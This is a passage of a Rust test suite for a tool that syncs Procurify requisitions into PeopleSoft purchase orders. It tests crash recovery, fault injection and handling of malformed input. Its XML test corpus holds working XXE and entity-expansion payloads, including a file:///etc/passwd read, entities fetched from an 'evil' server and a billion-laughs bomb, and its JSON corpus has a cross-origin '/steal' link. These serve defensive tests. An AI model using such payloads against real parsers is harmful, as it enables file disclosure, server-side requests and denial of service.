//! Reliability: the real binary killed with SIGKILL at random points and
//! restarted until done leaves exactly one PO per (requisition, vendor);
//! 5xx, drops, 429 bursts, jitter, token expiry and a malformed page cost no
//! record and no duplicate; a deactivated operation halts after one failure
//! and resumes; a corpus of bad input gives clear errors, never a panic.
//! Longer variants run with `MLC_SOAK=1`; each test prints its figures.

use mlc_deployment_kit::manifest::{Manifest as KitManifest, inline};
use mlc_deployment_kit::toml_edit;
use mlc_deployment_kit::{
    Bursts, Kit, PO_CREATE, PO_FLOW, TENANT, approved_requisitions, expected_po_refs, halted,
    intact,
};
use mlc_host::audit::{self, Verification};
use mlc_host::components::{CONNECTOR_PEOPLESOFT, CONNECTOR_PROCURIFY};
use mlc_host::credentials::{Credentials, SecretRef, Setting};
use mlc_host::events::{ContainmentReason, Event};
use mlc_host::manifest::Manifest;
use mlc_host::pipeline::{RunOutcome, RunReport};
use mlc_host::runtime::{CallError, Connection, Connector, Failure};
use mlc_host::store::{RecordState, Store};
use mlc_sandbox::exchange::{Handler, Request, Response};
use mlc_sandbox::faults::{Fault, FaultPlan, FaultRule};
use mlc_sandbox::peoplesoft::{DEMO_PASSWORD, DEMO_USER, PeopleSoftConfig, PeopleSoftSandbox};
use mlc_sandbox::seeded;
use mlc_sandbox::server::Server;
use mlc_tests::SandboxBuilder;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

fn soak() -> bool {
    std::env::var_os("MLC_SOAK").is_some_and(|v| v != "0")
}

/// Checks what a finished deployment holds against Procurify's state:
/// exactly one PO per expected PO_REF, none for a waiting one, ledger rows
/// that name existing POs with that PO_REF, nothing unsettled, unique
/// vendors, and a verifiable audit chain. Returns the records checked.
pub(crate) fn assert_exactly_once(stage: &Kit) -> usize {
    let (ready, waiting) = expected_po_refs(&stage.procurify);
    let pos = stage.peoplesoft.purchase_orders();
    let mut by_ref: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for po in &pos {
        by_ref
            .entry(po.po_ref.clone().unwrap_or_default())
            .or_default()
            .push(po.po_id.clone());
    }
    let duplicated: Vec<_> = by_ref.iter().filter(|(_, ids)| ids.len() > 1).collect();
    assert!(
        duplicated.is_empty(),
        "PO_REFs posted twice: {duplicated:?}"
    );
    let missing: Vec<&String> = ready.keys().filter(|r| !by_ref.contains_key(*r)).collect();
    assert!(missing.is_empty(), "requisitions lost: {missing:?}");
    let unexpected: Vec<&String> = by_ref.keys().filter(|r| !ready.contains_key(*r)).collect();
    assert!(
        unexpected.is_empty(),
        "POs nobody asked for: {unexpected:?}"
    );
    for w in &waiting {
        assert!(!by_ref.contains_key(w), "{w} posted without its DEPTID");
    }

    let store = stage.store();
    let delivered = store
        .ledger_in_state(TENANT, PO_FLOW, RecordState::Delivered, usize::MAX >> 1)
        .unwrap();
    let ids: BTreeMap<&str, &str> = pos
        .iter()
        .map(|p| (p.po_id.as_str(), p.po_ref.as_deref().unwrap_or("")))
        .collect();
    for row in &delivered {
        let target = row.target_key.as_deref().unwrap_or("");
        assert_eq!(
            ids.get(target).copied(),
            Some(row.key.as_str()),
            "ledger row {} names PO {target:?}, which PeopleSoft does not hold with that PO_REF",
            row.key
        );
    }
    assert_eq!(
        delivered.len(),
        ready.len(),
        "ledger and PeopleSoft disagree"
    );
    for state in [
        RecordState::Pending,
        RecordState::Retrying,
        RecordState::Dead,
    ] {
        let rows = store.ledger_in_state(TENANT, PO_FLOW, state, 20).unwrap();
        assert!(rows.is_empty(), "{state:?} rows left: {rows:?}");
    }
    let mut names = BTreeSet::new();
    for v in stage.peoplesoft.vendors() {
        assert!(
            names.insert(v.name1.clone()),
            "vendor {} created twice",
            v.name1
        );
    }
    match audit::verify(&store).unwrap() {
        Verification::Verified { .. } => {}
        broken => panic!("audit chain broken: {broken:?}"),
    }
    ready.len()
}

/// PO create requests PeopleSoft received per PO_REF.
fn creates_per_ref(stage: &Kit) -> BTreeMap<String, usize> {
    stage
        .po_create_stamps()
        .into_iter()
        .map(|(r, s)| (r, s.len()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigkilled_binary_restarted_until_done_posts_exactly_one_po_per_requisition_and_vendor() {
    let (requisitions, kills_wanted) = if soak() { (15_000, 100) } else { (6_000, 20) };
    let seed = seeded::seed_from_env(0x5eed_c0de);
    println!("seed {seed} (replay with MLC_SEED={seed})");
    let mut rng = seeded::Rng::new(seed);
    let stage = Kit::builder()
        .requisitions(requisitions)
        .fronts(3)
        .start()
        .await;
    let approved = approved_requisitions(&stage.procurify);
    assert!(
        approved >= 2000,
        "seed gives {approved} approved requisitions"
    );
    let log_path = stage.dir.path().join("runs.log");
    let started = Instant::now();
    let (mut kills, mut runs, mut exits) = (0u32, 0u32, 0u32);
    let spawn = || stage.spawn_logged(&["sync"], &log_path);
    loop {
        assert!(
            started.elapsed() < Duration::from_secs(if soak() { 7200 } else { 1200 }),
            "no completion after {runs} runs and {kills} kills"
        );
        let mut child = spawn();
        runs += 1;
        if kills >= kills_wanted {
            let status = loop {
                if let Some(s) = child.try_wait().unwrap() {
                    break s;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            };
            let log = std::fs::read_to_string(&log_path).unwrap_or_default();
            let tail: String = log
                .chars()
                .rev()
                .take(3000)
                .collect::<Vec<_>>()
                .into_iter()
                .rev()
                .collect();
            assert!(status.success(), "the last run failed: {status}\n{tail}");
            break;
        }
        // Half the kills fall at a random time (start-up, reference flows,
        // reads), half after a random number of new POs (mid-write).
        let creates_at_spawn = stage.fronts().peoplesoft.count();
        let by_time = rng.below(2) == 0;
        let after = Duration::from_millis(50 + rng.below(2500) as u64);
        let after_requests = 1 + rng.below(120);
        let spawned = Instant::now();
        loop {
            tokio::time::sleep(Duration::from_millis(5)).await;
            if child.try_wait().unwrap().is_some() {
                exits += 1;
                break;
            }
            let due = if by_time {
                spawned.elapsed() >= after
            } else {
                stage.fronts().peoplesoft.count() >= creates_at_spawn + after_requests
                    || spawned.elapsed() >= Duration::from_secs(30)
            };
            if due {
                child.kill().unwrap();
                child.wait().unwrap();
                kills += 1;
                break;
            }
        }
    }
    let elapsed = started.elapsed();

    let creates_before = creates_per_ref(&stage);
    let twice: Vec<_> = creates_before.iter().filter(|(_, n)| **n > 1).collect();
    assert!(
        twice.is_empty(),
        "PO creates posted again after a kill: {twice:?}"
    );
    let checked = assert_exactly_once(&stage);

    // One more full run posts nothing.
    let status = spawn().wait().unwrap();
    assert!(status.success());
    assert_eq!(
        creates_per_ref(&stage),
        creates_before,
        "a later run posted again"
    );
    let linked = audit_events(&stage, "record_linked");
    println!(
        "crash loop: {approved} approved requisitions, {checked} POs checked, {kills} SIGKILLs survived, \
         {runs} runs ({exits} ended by themselves), {linked} writes resolved by lookup, {:.1} s",
        elapsed.as_secs_f64()
    );
}

/// Audit rows of the PO flow with `event`.
fn audit_events(stage: &Kit, event: &str) -> usize {
    let mut out = Vec::new();
    audit::export(&stage.store(), Some(TENANT), &mut out).unwrap();
    String::from_utf8(out)
        .unwrap()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["flow"] == PO_FLOW && v["event"] == event)
        .count()
}

fn all_completed(reports: &[RunReport]) -> bool {
    reports.iter().all(|r| r.outcome == RunOutcome::Completed)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn under_5xx_drops_429_bursts_jitter_token_expiry_and_a_malformed_page_everything_arrives_once()
 {
    let requisitions = if soak() { 1_500 } else { 150 };
    let stage = Kit::builder()
        .requisitions(requisitions)
        .fronts(42)
        // More attempts per run than the shipped 5, so that a write is rarely
        // deferred under 30% failures: a deferred write is tried again
        // without its Retry-After (see
        // `retry_after_of_a_deferred_write_holds_in_the_next_run`).
        .manifest(|m| {
            let retry = inline(m.flow(PO_FLOW), "retry");
            retry.insert("attempts", 10.into());
            retry.insert("base_ms", 100.into());
            retry.insert("cap_ms", 2000.into());
        })
        .start()
        .await;
    for (server, prefix) in [
        (&stage.fronts().procurify_server, "/api/"),
        (&stage.fronts().peoplesoft_server, "/PSIGW/"),
    ] {
        let plan = server.faults();
        plan.add(
            FaultRule::always(Fault::MalformedBody)
                .on(http::Method::GET, "/api/v2/global/orders/")
                .times(1),
        );
        plan.add(
            FaultRule::always(Fault::Status(503))
                .on_path(prefix)
                .with_probability(0.2),
        );
        // 5% of all requests: 0.05 / 0.8 of those the 5xx rule let through.
        plan.add(
            FaultRule::always(Fault::DropConnection)
                .on_path(prefix)
                .with_probability(0.0625),
        );
        plan.add(
            FaultRule::always(Fault::Latency {
                fixed: Duration::ZERO,
                jitter: Duration::from_millis(15),
            })
            .on_path(prefix),
        );
    }
    // A page of requisitions costs ~100 calls (one per requisition for its
    // lines): a burst in every few hundred calls refuses some page reads.
    stage.fronts().procurify.set_bursts(Some(Bursts {
        prefix: "/api/".into(),
        soap_action: String::new(),
        period: 300,
        length: 3,
        retry_after_secs: 1,
    }));
    stage.fronts().peoplesoft.set_bursts(Some(Bursts {
        prefix: "/PSIGW/".into(),
        soap_action: PO_CREATE.into(),
        period: 20,
        length: 3,
        retry_after_secs: 1,
    }));

    let started = Instant::now();
    let app = stage.app().await;
    let (mut cycles, mut expiries) = (0u32, 0u32);
    let max_cycles = if soak() { 40 } else { 12 };
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut cycle_starts = Vec::new();
    loop {
        cycles += 1;
        assert!(
            cycles <= max_cycles,
            "not delivered after {max_cycles} cycles"
        );
        cycle_starts.push([
            stage.fronts().procurify.elapsed(),
            stage.fronts().peoplesoft.elapsed(),
        ]);
        // Tokens of both systems expire while the cycle runs.
        let expirer = async {
            for _ in 0..3 {
                tokio::time::sleep(Duration::from_millis(700)).await;
                if done.load(std::sync::atomic::Ordering::SeqCst) {
                    break;
                }
                stage.procurify.expire_tokens();
                stage.peoplesoft.expire_tokens();
                expiries += 1;
            }
        };
        let sync = async {
            let r = tokio::time::timeout(Duration::from_secs(300), app.sync(None, None)).await;
            done.store(true, std::sync::atomic::Ordering::SeqCst);
            r
        };
        let (reports, ()) = tokio::join!(sync, expirer);
        done.store(false, std::sync::atomic::Ordering::SeqCst);
        let reports = reports.expect("a cycle ends").expect("sync runs");
        let unsettled = app
            .store
            .ledger_in_state(TENANT, PO_FLOW, RecordState::Retrying, 1)
            .unwrap()
            .len()
            + app
                .store
                .ledger_in_state(TENANT, PO_FLOW, RecordState::Pending, 1)
                .unwrap()
                .len();
        for r in &reports {
            if let RunOutcome::Halted(m) = &r.outcome {
                panic!("{} halted under transient faults: {m}", r.flow);
            }
        }
        for r in &reports {
            println!("cycle {cycles}: {} {:?} {:?}", r.flow, r.outcome, r.counts);
        }
        if all_completed(&reports) && unsettled == 0 {
            break;
        }
    }
    let elapsed = started.elapsed();
    drop(app);
    for flow in ["vendors-to-peoplesoft", "accounts-to-peoplesoft", PO_FLOW] {
        let dead = stage
            .store()
            .ledger_in_state(TENANT, flow, RecordState::Dead, 20)
            .unwrap();
        assert!(
            dead.is_empty(),
            "{flow}: dead letters under transient faults: {dead:?}"
        );
    }
    let checked = assert_exactly_once(&stage);

    // Retry-After: within a run, the next attempt of a refused request comes
    // no sooner. (Across runs see
    // `retry_after_of_a_deferred_write_holds_in_the_next_run`.)
    let (mut refused, mut honoured, mut next_run) = (0, 0, 0);
    for (f, (front, server)) in [
        (&stage.fronts().procurify, &stage.fronts().procurify_server),
        (
            &stage.fronts().peoplesoft,
            &stage.fronts().peoplesoft_server,
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let stamps = front.stamps();
        // A 429 the fault plan then dropped never reached the client.
        let intact = intact(server, &stamps);
        for (i, s) in stamps
            .iter()
            .enumerate()
            .filter(|(i, s)| s.status == 429 && intact[*i])
        {
            refused += 1;
            let Some(next) = stamps[i + 1..].iter().find(|n| n.identity == s.identity) else {
                continue;
            };
            let gap = next.at - s.at;
            if cycle_starts.iter().any(|c| c[f] > s.at && c[f] <= next.at) {
                next_run += 1;
                continue;
            }
            assert!(
                gap >= Duration::from_secs(1),
                "{} was retried {gap:?} after a 429 with Retry-After: 1 (in the same run)",
                s.identity
            );
            honoured += 1;
        }
    }
    assert!(honoured > 0, "no retry after a 429 was observed");
    let injected = stage.fronts().procurify_server.faults().injected().total()
        + stage.fronts().peoplesoft_server.faults().injected().total();
    println!(
        "fault soak: {checked} POs exactly once, {cycles} cycles, {:.1} s; faults injected: {injected} \
         by the plans (procurify {:?}, peoplesoft {:?}), {refused} 429s from bursts ({honoured} retries \
         in the same run measured, all >= Retry-After; {next_run} retried by the next cycle), {expiries} token expiries",
        elapsed.as_secs_f64(),
        stage.fronts().procurify_server.faults().injected(),
        stage.fronts().peoplesoft_server.faults().injected(),
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn po_operation_deactivated_mid_run_halts_after_one_failure_then_resumes_when_activated() {
    let stage = Kit::builder().requisitions(240).fronts(5).start().await;
    let app = stage.app().await;
    let deactivated_at = Mutex::new(None::<usize>);
    let sync = app.sync(None, None);
    let switch = async {
        while stage.peoplesoft.purchase_orders().len() < 25 {
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
        // Read the count first: a create failing after the deactivation may be
        // stamped before this task runs again, and must still be counted.
        let before = stage.fronts().peoplesoft.count();
        stage.peoplesoft.deactivate(PO_CREATE).unwrap();
        *deactivated_at.lock().unwrap() = Some(before);
    };
    let (reports, ()) = tokio::join!(sync, switch);
    let reports = reports.unwrap();
    let report = reports.iter().find(|r| r.flow == PO_FLOW).unwrap();
    match &report.outcome {
        RunOutcome::Halted(m) => assert!(
            m.contains(PO_CREATE) && m.contains("activate"),
            "the halt must say what to activate: {m}"
        ),
        other => panic!("expected a halt, got {other:?}"),
    }
    let from = deactivated_at.lock().unwrap().unwrap();
    let failed_creates = stage.fronts().peoplesoft.stamps()[from..]
        .iter()
        .filter(|s| s.identity.starts_with("create ") && s.status != 200)
        .count();
    // Writes already in flight when the operation went inactive may fail
    // too (the flow's concurrency is 4), but nothing after the halt.
    assert!(
        (1..=4).contains(&failed_creates),
        "{failed_creates} failed creates after the deactivation: the flow must stop at the first"
    );
    assert!(
        app.pipeline
            .dead_letters(TENANT, PO_FLOW)
            .unwrap()
            .is_empty(),
        "a halt must not dead-letter records"
    );
    let posted_before = stage.peoplesoft.purchase_orders().len();
    let (ready, _) = expected_po_refs(&stage.procurify);
    assert!(
        posted_before < ready.len(),
        "the halt came after everything was posted"
    );

    stage.peoplesoft.activate(PO_CREATE).unwrap();
    let reports = app.sync(None, None).await.unwrap();
    assert!(all_completed(&reports), "{reports:?}");
    drop(app);
    let checked = assert_exactly_once(&stage);
    println!(
        "halt and resume: halted after {failed_creates} failed create(s), {posted_before} POs before the halt, \
         {checked} after the resume, 0 dead letters"
    );
}

#[tokio::test]
async fn retry_after_of_a_deferred_write_holds_in_the_next_run() {
    let kit = mlc_tests::pipeline_kit::PipelineKit::start().await;
    kit.service
        .put_source("records", "1", serde_json::json!({"id": 1, "qty": "1.5"}));
    // Both attempts of the first run are refused with Retry-After: 2.
    kit.service.fail_next_writes(2, 429, Some(2));
    let mut flow = kit.flow(
        "orders",
        "records",
        "orders",
        r#"{key: "ORD-\(.id)", body: {id: .id, qty: .qty}}"#,
    );
    flow.retry = mlc_host::pipeline::RetryPolicy {
        attempts: 2,
        base: Duration::from_millis(10),
        cap: Duration::from_millis(10),
        max_retry_after: Duration::from_secs(60),
    };
    let first = kit.pipeline().run_flow(&flow).await.unwrap();
    assert_eq!(first.counts.deferred, 1, "{first:?}");
    // The next run starts at once (a manual `sync`, a short schedule): it
    // may wait or leave the record for later, but not post before the
    // remote side said it may.
    kit.pipeline().run_flow(&flow).await.unwrap();
    let times = kit.service.post_times();
    for pair in times.windows(2) {
        assert!(
            pair[1] - pair[0] >= Duration::from_secs(2),
            "posted {:?} after a 429 with Retry-After: 2",
            pair[1] - pair[0]
        );
    }
}

// ---------------------------------------------------------------------------
// Bad input corpus
// ---------------------------------------------------------------------------

/// A server answering every request with one scripted body (per request
/// kind), and passing the rest to `inner`.
struct Scripted {
    inner: Option<Arc<dyn Handler>>,
    wsdl: Mutex<Option<(u16, &'static str, Vec<u8>)>>,
    post: Mutex<Option<(u16, &'static str, Vec<u8>)>>,
    get: Mutex<Option<(u16, &'static str, Vec<u8>)>>,
}

impl Scripted {
    fn new(inner: Option<Arc<dyn Handler>>) -> Arc<Scripted> {
        Arc::new(Scripted {
            inner,
            wsdl: Mutex::new(None),
            post: Mutex::new(None),
            get: Mutex::new(None),
        })
    }

    fn set(
        slot: &Mutex<Option<(u16, &'static str, Vec<u8>)>>,
        value: Option<(u16, &'static str, Vec<u8>)>,
    ) {
        *slot.lock().unwrap() = value;
    }
}

impl Handler for Scripted {
    fn handle(&self, request: &Request) -> Response {
        let slot = if request.method == http::Method::POST {
            &self.post
        } else if request.path.ends_with(".wsdl") {
            &self.wsdl
        } else {
            &self.get
        };
        if let Some((status, ctype, body)) = slot.lock().unwrap().clone() {
            return Response::new(http::StatusCode::from_u16(status).unwrap(), ctype, body);
        }
        match &self.inner {
            Some(h) => h.handle(request),
            None => Response::new(http::StatusCode::NOT_FOUND, "text/plain", "no route"),
        }
    }
}

fn connector(name: &'static str, wasm: &'static [u8]) -> Connector {
    static LOADED: OnceLock<Mutex<BTreeMap<&'static str, Connector>>> = OnceLock::new();
    let map = LOADED.get_or_init(|| Mutex::new(BTreeMap::new()));
    map.lock()
        .unwrap()
        .entry(name)
        .or_insert_with(|| mlc_tests::runtime().load(name, wasm).unwrap().0)
        .clone()
}

fn deep(open: &str, close: &str, depth: usize) -> Vec<u8> {
    let mut s = open.repeat(depth);
    s.push_str(&close.repeat(depth));
    s.into_bytes()
}

fn json_corpus() -> Vec<(&'static str, Vec<u8>)> {
    let mut huge_valid = b"{\"data\":[".to_vec();
    let row = br#"{"id":1,"name":"Acme","active":true,"address_line_one":"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"},"#;
    while huge_valid.len() < 24 << 20 {
        huge_valid.extend_from_slice(row);
    }
    huge_valid.pop();
    huge_valid.extend_from_slice(b"],\"metadata\":{\"pagination\":{\"next\":null,\"count\":1}}}");
    vec![
        ("empty body", Vec::new()),
        ("truncated object", b"{\"data\": [".to_vec()),
        ("truncated mid-string", b"{\"data\":[{\"id\":1,\"name\":\"Ac".to_vec()),
        ("null", b"null".to_vec()),
        ("array instead of envelope", b"[1,2,3]".to_vec()),
        ("data is a string", br#"{"data":"x","metadata":{}}"#.to_vec()),
        (
            "wrong field types",
            br#"{"data":[{"id":"one","name":5,"active":"yes"}],"metadata":{"pagination":{"next":7,"count":"x"}}}"#.to_vec(),
        ),
        (
            "invalid UTF-8",
            b"{\"data\":[{\"id\":1,\"name\":\"\xff\xfe\xc0\"}],\"metadata\":{}}".to_vec(),
        ),
        ("lone surrogate escape", br#"{"data":[{"id":1,"name":"\ud800"}]}"#.to_vec()),
        ("number overflow", br#"{"data":[{"id":1e400,"name":"A"}]}"#.to_vec()),
        ("nested 100k deep", deep("[", "]", 100_000)),
        ("html error page", b"<html><body>Bad Gateway</body></html>".to_vec()),
        ("xml instead of json", b"<?xml version=\"1.0\"?><data/>".to_vec()),
        (
            "next link to another origin",
            br#"{"data":[],"metadata":{"pagination":{"next":"http://127.0.0.1:9/steal?page=2","count":0}}}"#.to_vec(),
        ),
        ("NUL bytes", b"{\"data\":[\0\0\0]}".to_vec()),
        ("24 MiB of valid rows", huge_valid),
        ("40 MiB over the host's cap", vec![b' '; 40 << 20]),
    ]
}

/// Whether `err` is an acceptable answer to bad input: a classified failure
/// with a message, or (for huge bodies) the memory limit holding. A trap
/// (a panic in the component) is not acceptable.
fn clear_error(item: &str, err: &CallError) {
    match err {
        CallError::Failed { failure, .. } => {
            let text = match failure {
                Failure::Protocol(m)
                | Failure::Transient(m)
                | Failure::Rejected(m)
                | Failure::Config(m)
                | Failure::NotEnabled(m)
                | Failure::Unauthorized(m) => m.clone(),
                Failure::RateLimited(t) => t.message.clone(),
            };
            assert!(!text.trim().is_empty(), "{item}: failure without a reason");
        }
        CallError::Contained {
            reason: ContainmentReason::MemoryLimit { .. },
            ..
        } if item.contains("MiB") => {}
        other => panic!("{item}: not a clear error: {other}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_procurify_pages_give_clear_errors_or_unreadable_records_never_a_panic() {
    let scripted = Scripted::new(None);
    let server = Server::start(scripted.clone(), Arc::new(FaultPlan::none()))
        .await
        .unwrap();
    let builder =
        SandboxBuilder::new("acme", &server.base_url()).limits(64 << 20, Duration::from_secs(20));
    let conn = Connection {
        base_url: server.base_url(),
        config: serde_json::json!({"page_size": 50}).to_string(),
    };
    let procurify = connector("procurify", CONNECTOR_PROCURIFY);
    let corpus = json_corpus();
    let mut outcomes = BTreeMap::new();
    for (item, body) in &corpus {
        Scripted::set(&scripted.get, Some((200, "application/json", body.clone())));
        let mut instance = procurify.instantiate(&builder.build()).await.unwrap();
        match instance.read(&conn, "vendors", None).await {
            Ok(page) => {
                // Unreadable rows are named, readable ones carry real data.
                for bad in &page.bad_records {
                    assert!(
                        !bad.reason.is_empty(),
                        "{item}: bad record without a reason"
                    );
                }
                for doc in &page.docs {
                    serde_json::from_str::<serde_json::Value>(&doc.body)
                        .unwrap_or_else(|e| panic!("{item}: a document that is not JSON: {e}"));
                }
                outcomes.insert(
                    *item,
                    format!(
                        "page: {} docs, {} unreadable",
                        page.docs.len(),
                        page.bad_records.len()
                    ),
                );
            }
            Err(e) => {
                clear_error(item, &e);
                outcomes.insert(*item, e.to_string().chars().take(100).collect());
            }
        }
        // A failed instance is replaced; the next call works.
        Scripted::set(
            &scripted.get,
            Some((
                200,
                "application/json",
                br#"{"data":[],"metadata":{"pagination":{"next":null,"count":0}}}"#.to_vec(),
            )),
        );
        let mut fresh = procurify.instantiate(&builder.build()).await.unwrap();
        assert!(
            fresh.read(&conn, "vendors", None).await.is_ok(),
            "{item}: the next call fails"
        );
    }
    let contained = builder
        .events
        .recent()
        .into_iter()
        .filter(|e| {
            matches!(
                e,
                Event::ComponentContained {
                    reason: ContainmentReason::Trap(_),
                    ..
                }
            )
        })
        .count();
    assert_eq!(contained, 0, "a bad page made the component trap");
    for (item, outcome) in &outcomes {
        println!("procurify corpus: {item}: {outcome}");
    }
    println!("procurify corpus: {} items", corpus.len());
}

fn xml_corpus(evil_url: &str) -> Vec<(&'static str, Vec<u8>)> {
    let laughs = {
        let mut d =
            String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
        let mut prev = "lol".to_string();
        for i in 1..=9 {
            let name = format!("lol{i}");
            d.push_str(&format!(
                "<!ENTITY {name} \"{}\">\n",
                format!("&{prev};").repeat(10)
            ));
            prev = name;
        }
        d.push_str("]>\n<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><PO_ID>&lol9;</PO_ID></soapenv:Body></soapenv:Envelope>");
        d.into_bytes()
    };
    let xxe_file = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><PO_ID>&x;</PO_ID></soapenv:Body></soapenv:Envelope>".to_vec();
    let xxe_http = format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"{evil_url}/xxe\">]><soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><PO_ID>&x;</PO_ID></soapenv:Body></soapenv:Envelope>").into_bytes();
    let param_entity = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"{evil_url}/dtd\"> %p;]><r/>"
    )
    .into_bytes();
    let quadratic = {
        let big = "A".repeat(100_000);
        let mut d = format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"{big}\">]><r>");
        d.push_str(&"&a;".repeat(1000));
        d.push_str("</r>");
        d.into_bytes()
    };
    vec![
        ("empty", Vec::new()),
        ("truncated envelope", b"<SOAP-ENV:Envelope><".to_vec()),
        ("not xml", b"<html><body>Service Unavailable</body></html>".to_vec()),
        ("json", br#"{"error":"nope"}"#.to_vec()),
        ("billion laughs", laughs),
        ("quadratic blowup", quadratic),
        ("external entity (file)", xxe_file),
        ("external entity (http)", xxe_http),
        ("external parameter entity", param_entity),
        (
            "invalid UTF-8 in text",
            b"<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><PO_ID>\xff\xfe</PO_ID></soapenv:Body></soapenv:Envelope>".to_vec(),
        ),
        (
            "undeclared prefix",
            b"<x:Envelope><x:Body><y:PO_ID>1</y:PO_ID></x:Body></x:Envelope>".to_vec(),
        ),
        (
            "mismatched tags",
            b"<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body></soapenv:Envelope></soapenv:Body>".to_vec(),
        ),
        (
            "fault without faultstring",
            b"<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><soapenv:Fault/></soapenv:Body></soapenv:Envelope>".to_vec(),
        ),
        (
            "unexpected body element",
            b"<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><Surprise>1</Surprise></soapenv:Body></soapenv:Envelope>".to_vec(),
        ),
        ("nested 100k deep", deep("<a>", "</a>", 100_000)),
        ("40 MiB over the host's cap", vec![b' '; 40 << 20]),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_soap_replies_and_wsdls_give_clear_errors_expand_no_entity_and_reach_no_one() {
    let site = PeopleSoftSandbox::start(PeopleSoftConfig::default())
        .await
        .unwrap();
    let scripted = Scripted::new(Some(site.emulator().clone()));
    let server = Server::start(scripted.clone(), Arc::new(FaultPlan::none()))
        .await
        .unwrap();
    let evil = mlc_tests::peers::echo_server().await;
    let builder = SandboxBuilder::new("acme", &server.base_url())
        .credentials(Credentials::Wsse {
            username: Setting::Plain(DEMO_USER.into()),
            password: SecretRef::parse("secret:ps/password").unwrap(),
        })
        .secret("ps/password", DEMO_PASSWORD)
        .limits(64 << 20, Duration::from_secs(20));
    let conn = Connection {
        base_url: server.base_url(),
        config: serde_json::json!({"node": "PSFT_EP", "business_unit": "US001"}).to_string(),
    };
    let peoplesoft = connector("peoplesoft", CONNECTOR_PEOPLESOFT);
    let corpus = xml_corpus(&evil.base_url());
    let mut items = 0;
    for (where_, slot) in [("SOAP reply", &scripted.post), ("WSDL", &scripted.wsdl)] {
        for (item, body) in &corpus {
            items += 1;
            let label = format!("{where_}: {item}");
            Scripted::set(slot, Some((200, "text/xml; charset=UTF-8", body.clone())));
            let mut instance = peoplesoft.instantiate(&builder.build()).await.unwrap();
            let result = instance.lookup(&conn, "purchase_orders", "R1-V1").await;
            let shown: String = match &result {
                Ok(v) => format!("{v:?}"),
                Err(e) => e.to_string(),
            };
            println!(
                "peoplesoft corpus: {label}: {}",
                shown.chars().take(160).collect::<String>()
            );
            match result {
                Ok(found) => {
                    let id = found.unwrap_or_default();
                    assert!(
                        !id.contains("root:") && !id.contains("lollol") && id.len() < 64,
                        "{label}: an entity was expanded into {id:?}"
                    );
                }
                Err(e) => clear_error(&label, &e),
            }
            Scripted::set(slot, None);
            let mut fresh = peoplesoft.instantiate(&builder.build()).await.unwrap();
            assert_eq!(
                fresh
                    .lookup(&conn, "purchase_orders", "R1-V1")
                    .await
                    .unwrap(),
                None,
                "{label}: the next call fails"
            );
        }
    }
    assert!(evil.requests().is_empty(), "an external entity was fetched");
    let traps = builder
        .events
        .recent()
        .into_iter()
        .filter(|e| {
            matches!(
                e,
                Event::ComponentContained {
                    reason: ContainmentReason::Trap(_),
                    ..
                }
            )
        })
        .count();
    assert_eq!(traps, 0, "a bad reply made the component trap");
    println!("peoplesoft corpus: {items} items (SOAP replies and WSDLs)");
}

#[test]
fn bad_manifests_are_clear_errors_that_name_the_key() {
    let dir = tempfile::tempdir().unwrap();
    let base = mlc_host::bundled::MANIFEST;
    // Each case is the shipped manifest with one key edited as TOML.
    let edited = |edit: &dyn Fn(&mut KitManifest)| {
        let mut m = KitManifest::shipped();
        edit(&mut m);
        m.text()
    };
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "unknown top-level key",
            format!("{base}\n[telemetry]\nurl = \"x\"\n"),
            "telemetry",
        ),
        (
            "unknown flow key",
            edited(&|m| m.flow(PO_FLOW)["retries"] = toml_edit::value(3)),
            "retries",
        ),
        (
            "unknown connection key",
            edited(&|m| m.connection("peoplesoft")["timeout"] = toml_edit::value(5)),
            "timeout",
        ),
        (
            "bad cron",
            edited(&|m| {
                let flow = m.flow(PO_FLOW);
                flow.remove("every");
                flow["cron"] = toml_edit::value("61 * * * *");
            }),
            "cron",
        ),
        (
            "bad interval",
            edited(&|m| m.flow(PO_FLOW)["every"] = toml_edit::value("5 parsecs")),
            "every",
        ),
        (
            "both cron and every",
            edited(&|m| m.flow(PO_FLOW)["cron"] = toml_edit::value("0 * * * *")),
            "not both",
        ),
        (
            "secret in plain text",
            edited(&|m| {
                m.auth("peoplesoft").insert("password", "hunter2".into());
            }),
            "password",
        ),
        (
            "credentials in the URL",
            edited(&|m| {
                m.connection("peoplesoft")["base_url"] =
                    toml_edit::value("http://u:p@127.0.0.1:8702")
            }),
            "base_url",
        ),
        (
            "unknown flow requirement",
            edited(&|m| {
